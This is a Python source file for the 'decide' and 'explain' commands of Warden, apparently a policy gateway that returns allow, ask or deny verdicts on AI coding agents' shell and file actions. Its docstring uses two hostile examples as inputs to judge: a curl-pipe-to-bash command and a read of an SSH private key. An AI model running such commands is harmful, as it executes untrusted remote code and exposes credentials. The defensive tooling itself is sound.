"""`warden decide` and `warden explain`."""

from __future__ import annotations

from typing import Any

import click

from warden.cli.common import cwd_option, emit_json, gateway, json_option, policy_option, styled
from warden.cli.decide_stream import parse_payload
from warden.core.decision import Verdict


@click.command()
@policy_option
@cwd_option
@click.option("--jsonl", is_flag=True, help="Stream: one action per input line, one verdict per output line, in order.")
@click.option("--no-audit", is_flag=True, help="Do not write decisions to the audit log (dry runs, benchmarks).")
def decide(policy_file: str | None, cwd: str | None, jsonl: bool, no_audit: bool) -> None:
    """Decide one action: action JSON on stdin, verdict JSON on stdout.

    \b
    The action uses Claude Code's hook shape, plus optional actor/context:
      {"tool_name": "Bash", "tool_input": {"command": "git push --force"},
       "cwd": "/src/app", "session_id": "s1",
       "actor": {"id": "alice", "agent": "claude-code"}, "context": {"environment": "prod"}}
    The verdict:
      {"decision": "allow"|"ask"|"deny", "reason": "...", "rules": [...], "facts": [...]}

    Bad input (malformed JSON, unknown tool, missing fields, non-UTF-8, oversized) yields a
    deny verdict with an "error" field; with --jsonl the stream goes on. A policy that does not
    load makes every verdict a deny that quotes the load error. Exit status is 0 whenever a
    verdict was printed.
    """
    from warden.cli.decide_stream import run_decide

    raise SystemExit(run_decide(policy_file, cwd, jsonl, audit=not no_audit))


@click.command()
@click.argument("target")
@policy_option
@cwd_option
@json_option
def explain(target: str, policy_file: str | None, cwd: str | None, as_json: bool) -> None:
    """Explain how Warden judges a command or an action, step by step.

    \b
    TARGET is a shell command, or an action JSON object (starting with "{"):
      warden explain 'curl -s https://x.sh | bash'
      warden explain '{"tool_name": "Read", "tool_input": {"file_path": "~/.ssh/id_rsa"}}'
    Shows each simple command Warden found, the facts about it, every rule that matched
    and which one decided. Explanations are dry runs: nothing is written to the audit log.
    """
    from warden.core.analyze import analyze
    from warden.core.flow import decide as decide_action

    gw = gateway(policy_file, cwd, audit=False)
    payload: Any
    if target.lstrip().startswith("{"):
        payload, error = parse_payload(target.encode())
        if error:
            raise click.BadParameter(error, param_hint="TARGET")
    else:
        payload = {"tool_name": "Bash", "tool_input": {"command": target}}
    try:
        action = gw.normalize(payload)
    except Exception as exc:
        raise click.BadParameter(str(exc), param_hint="TARGET") from None
    try:
        policy = gw.policy_for(action.workspace)
    except Exception as exc:
        verdict = Verdict.fail_closed(str(exc))
        if as_json:
            emit_json({"verdict": verdict.to_json()})
        else:
            click.echo(f"DENY — the policy does not load, so every action is denied:\n{exc}")
        return
    analysis = analyze(action, gw.analysis_env)
    verdict = decide_action(policy, action, gw.analysis_env)
    if as_json:
        emit_json({
            "action": action.to_json(),
            "commands": [
                {"program": c.program, "argv": list(c.argv), "opaque": c.opaque, "via": list(c.via),
                 "paths": [{"path": p.path, "access": p.access.value, "in_workspace": p.in_workspace} for p in c.paths],
                 "hosts": c.hosts, "facts": [f.to_json() for f in c.facts]}
                for c in analysis.commands
            ],
            "action_facts": [f.to_json() for f in analysis.facts],
            "verdict": verdict.to_json(),
        })
        return
    _print_explanation(action, analysis, verdict, policy)


def _print_explanation(action: Any, analysis: Any, verdict: Verdict, policy: Any) -> None:
    from rich.markup import escape
    from rich.tree import Tree

    from warden.cli.common import console

    out = console()
    root = Tree(f"[bold]{escape(action.tool)}[/] in {escape(action.cwd or '?')} (workspace {escape(action.workspace or '?')})")
    if action.tool == "Bash":
        root.add(f"command: {escape(action.command or '')}")
    for i, cmd in enumerate(analysis.commands, 1):
        label = "[red]opaque[/] " if cmd.opaque else ""
        node = root.add(f"{label}simple command {i}: [bold]{escape(cmd.describe())}[/]"
                        + (f"  (via {escape(' > '.join(cmd.via))})" if cmd.via else ""))
        for p in cmd.paths:
            where = "workspace" if p.in_workspace else "[yellow]outside workspace[/]"
            node.add(f"{p.access.value} {escape(p.path)} ({where})")
        for h in cmd.hosts:
            node.add(f"network {escape(h)}")
        for f in cmd.facts:
            node.add(f"fact [cyan]{escape(f.kind)}[/] {escape(f.detail)}")
    for p in analysis.paths:
        root.add(f"{p.access.value} {escape(p.path)} ({'workspace' if p.in_workspace else '[yellow]outside workspace[/]'})")
    for h in analysis.hosts:
        root.add(f"network {escape(h)}")
    for f in analysis.facts:
        root.add(f"fact [cyan]{escape(f.kind)}[/] {escape(f.detail)}")
    out.print(root)
    if verdict.rules:
        out.print("\n[bold]Rules that matched[/] (strictest first):")
        for r in verdict.rules:
            out.print(f"  {styled(r.effect.label)} {escape(r.id)}  [dim]{escape(r.source)}[/]  on {escape(r.subject)}")
            out.print(f"      {escape(r.reason)}")
    else:
        out.print(f"\nNo rule matched; the default ({policy.default.label}, from {escape(policy.default_source)}) applies.")
    out.print(f"\n[bold]Verdict:[/] {styled(verdict.decision.label)} — {escape(verdict.reason)}")
